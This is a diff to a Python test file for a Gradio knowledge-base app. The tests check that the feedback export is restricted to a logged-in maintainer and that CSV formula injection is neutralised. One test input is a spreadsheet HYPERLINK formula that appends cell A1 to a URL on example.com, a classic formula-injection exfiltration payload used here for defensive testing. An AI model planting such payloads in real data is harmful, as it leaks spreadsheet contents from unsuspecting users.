@@ -8,12 +8,14 @@ import re
 import time
 from collections.abc import Iterator
 from concurrent.futures import ThreadPoolExecutor
+from dataclasses import replace
 
 import pytest
 from gradio_client import Client
+from gradio_client.exceptions import AppError
 
 from kb.settings import Settings
-from tests.ui_server import Served, serving
+from tests.ui_server import PASSWORD, Served, logged_in, serving
 from ui.texts import EXAMPLES, TEXTS
 
 THAI = re.compile(r"[\u0e00-\u0e7f]")
@@ -28,7 +30,7 @@ QUESTIONS = {
 
 @pytest.fixture(scope="module")
 def served(full_index: Settings) -> Iterator[Served]:
-    with serving(full_index) as running:
+    with serving(replace(full_index, admin_password=PASSWORD)) as running:
         yield running
 
 
@@ -138,22 +140,25 @@ def test_unsupported_language_is_answered_in_english_with_a_note_in_the_page_lan
     assert not after["abstained"], "the app keeps serving after bad input"
 
 
-def test_feedback_is_stored_with_question_answer_citations_and_exported_as_csv(served: Served) -> None:
+def test_feedback_is_stored_and_exported_as_csv_to_a_maintainer_only(served: Served) -> None:
     client = Client(served.url, verbose=False)
     question = QUESTIONS["id"][0]
     _, answer = ask(served, question, client=client)
     assert client.predict(api_name="/rate_down") == f"<p>{TEXTS['thanks']['id']}</p>"
-    client.predict("Tolong tambahkan biaya operasional", api_name="/comment")
+    comment = '=HYPERLINK("http://example.com/?q="&A1,"Tolong tambahkan biaya operasional")'
+    client.predict(comment, api_name="/comment")
     rows = [r for r in served.backend.feedback.all() if r.question == question]
     assert len(rows) == 1, "a comment after a thumb updates the same row"
     row = rows[0]
-    assert (row.rating, row.comment, row.language, row.answer) == ("down", "Tolong tambahkan biaya operasional",
-                                                                     "id", answer["answer"])
+    assert (row.rating, row.comment, row.language, row.answer) == ("down", comment, "id", answer["answer"])
     assert "iges-bago-cebu-composting" in row.citations and row.created
-    exported = client.predict(api_name="/export_feedback")
+    with pytest.raises(AppError, match="log in as a maintainer first"):
+        client.predict(api_name="/export_feedback")  # every question and comment: not for anyone who asks
+    exported = logged_in(served.url).predict(api_name="/export_feedback")
     with open(exported, encoding="utf-8-sig", newline="") as handle:
-        lines = list(csv.DictReader(handle))
-    assert any(line["question"] == question and line["rating"] == "down" for line in lines)
+        lines = [line for line in csv.DictReader(handle) if line["question"] == question]
+    assert [(line["rating"], line["comment"]) for line in lines] == [("down", "'" + comment)], \
+        "a comment that starts with '=' must reach Excel as text, not as a formula"
 
 
 def test_rating_before_any_answer_asks_for_a_question_first(served: Served) -> None:
